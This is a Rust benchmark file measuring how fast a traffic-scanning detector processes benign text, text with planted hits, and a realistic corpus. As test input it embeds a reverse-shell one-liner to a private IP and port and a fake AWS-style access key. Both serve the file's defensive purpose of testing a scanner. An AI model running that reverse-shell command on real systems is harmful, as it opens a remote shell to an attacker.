//! Detector throughput, full built-in rule set, one thread:
//! - `scan_{outbound,inbound}/{benign,hits}/{size}`: the synthetic text at
//!   4 KiB, 64 KiB and 1 MiB through `scan_text`;
//! - `corpus_{outbound,inbound}/{class}`: the realistic corpus
//!   (`common/corpus.rs`: docs, code, api_json, html, minified_js, base64,
//!   binary; ≤ 4 MiB per class, built from this machine's files at start)
//!   through `scan_message` (head + body, default options) in 1 MiB pieces,
//!   as the proxy feeds the detector. One iteration scans the whole class.
//!
//! Run: `cargo bench --bench scanner --target x86_64-unknown-linux-gnu`
//! (`-- corpus` for the realistic classes only). `TG_BENCH_QUICK=1` shortens
//! the corpus groups and caps each class at 1 MiB.
use criterion::{
    criterion_group, criterion_main, BenchmarkId, Criterion, SamplingMode, Throughput,
};
use std::hint::black_box;
use std::sync::Arc;
use traffic_guardian::core::finding::Direction;
use traffic_guardian::core::scan::{Detector, DetectorOptions, MessageHead, ScanContext};

#[path = "common/corpus.rs"]
mod corpus;

/// Deterministic benign traffic: API JSON, HTML, minified JS, prose.
fn benign(len: usize) -> Vec<u8> {
    let parts: [&str; 5] = [
        r#"{"id":"msg_01","type":"message","role":"assistant","content":[{"type":"text","text":"The asia-pacific region saw task-based growth; box-shadow and risk-free options were discussed."}],"model":"claude","usage":{"input_tokens":1234,"output_tokens":567},"request_id":"3f2b8c1e-9a4d-4e6f-b1c2-7d8e9f0a1b2c"}"#,
        r#"<div class="card"><h2>Release notes</h2><p>Run <code>npm install</code> then <code>rm -rf ./dist</code> before building. See the docs for more.</p><img src="/static/logo.png" alt="logo"></div>"#,
        r#"function r(e,t){return e.map(function(n){return n.id===t?Object.assign({},n,{done:!0}):n})}var a=document.querySelector(".x");a&&a.addEventListener("click",function(){r([],1)});"#,
        "Security teams review the configuration weekly. Tokens rotate automatically and the checklist covers onboarding, access reviews and incident drills for every region.\n",
        r#"{"commit":"9fceb02d0ae598e95dc970b74767f19372d61af8","sha256":"e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855","files":["src/main.rs","README.md"]}"#,
    ];
    let mut out = Vec::with_capacity(len + 512);
    let mut i = 0;
    while out.len() < len {
        out.extend_from_slice(parts[i % parts.len()].as_bytes());
        i += 1;
    }
    out.truncate(len);
    out
}

/// Benign text with a planted secret or injection every ~2 KiB.
fn with_hits(len: usize, direction: Direction) -> Vec<u8> {
    let mut out = benign(len);
    let plant: &[u8] = match direction {
        Direction::Outbound => b" key=AKIAQ7X2M4N6P3R5T2V4 ",
        Direction::Inbound => b" bash -i >& /dev/tcp/10.0.0.1/4444 0>&1 ",
    };
    let mut at = 1000;
    while at + plant.len() < out.len() {
        out[at..at + plant.len()].copy_from_slice(plant);
        at += 2048;
    }
    out
}

fn bench(c: &mut Criterion) {
    let det = Arc::new(
        Detector::builtin(DetectorOptions {
            max_scan_bytes: 64 << 20,
            ..traffic_guardian::system::detector_options()
        })
        .expect("built-in rules compile"),
    );
    for direction in [Direction::Outbound, Direction::Inbound] {
        let ctx = ScanContext::new(direction, "http", "bench", "paste.example:443");
        let mut group = c.benchmark_group(format!("scan_{}", direction.as_str()));
        for size in [4 << 10, 64 << 10, 1 << 20] {
            for (kind, text) in [
                ("benign", benign(size)),
                ("hits", with_hits(size, direction)),
            ] {
                group.throughput(Throughput::Bytes(size as u64));
                group.bench_with_input(BenchmarkId::new(kind, size), &text, |b, t| {
                    b.iter(|| black_box(det.scan_text(&ctx, "body", black_box(t))))
                });
            }
        }
        group.finish();
    }
}

/// The head a proxy passes with a body of this class.
fn head(class: corpus::Class, direction: Direction) -> MessageHead<'static> {
    let headers = vec![
        ("content-type", class.content_type().as_bytes()),
        ("accept", &b"*/*"[..]),
    ];
    MessageHead::exchange(direction, "https://api.example.com/v1/messages", headers)
}

fn bench_corpus(c: &mut Criterion) {
    let det = Arc::new(
        Detector::builtin(traffic_guardian::system::detector_options())
            .expect("built-in rules compile"),
    );
    let quick = std::env::var_os("TG_BENCH_QUICK").is_some();
    // Quick mode: 1 MiB per class (one piece) keeps each benchmark near a second.
    let cap = if quick {
        corpus::PIECE
    } else {
        corpus::CLASS_CAP
    };
    let corpus = corpus::build(&corpus::Sources::machine(), cap);
    for direction in [Direction::Outbound, Direction::Inbound] {
        let ctx = ScanContext::new(direction, "https", "bench", "api.example.com:443");
        let mut group = c.benchmark_group(format!("corpus_{}", direction.as_str()));
        // Seconds per iteration on real text: few, equal-sized samples.
        group
            .sampling_mode(SamplingMode::Flat)
            .sample_size(10)
            .warm_up_time(std::time::Duration::from_millis(if quick {
                200
            } else {
                1000
            }))
            .measurement_time(std::time::Duration::from_secs(if quick { 1 } else { 3 }));
        for class in &corpus.classes {
            if class.bytes.is_empty() {
                continue;
            }
            let head = head(class.class, direction);
            group.throughput(Throughput::Bytes(class.bytes.len() as u64));
            group.bench_function(class.class.name(), |b| {
                b.iter(|| {
                    for piece in class.pieces(corpus::PIECE) {
                        black_box(det.scan_message(&ctx, &head, black_box(piece)));
                    }
                })
            });
        }
        group.finish();
    }
}

criterion_group! {
    name = benches;
    config = Criterion::default().sample_size(20).measurement_time(std::time::Duration::from_secs(3));
    targets = bench, bench_corpus
}
criterion_main!(benches);
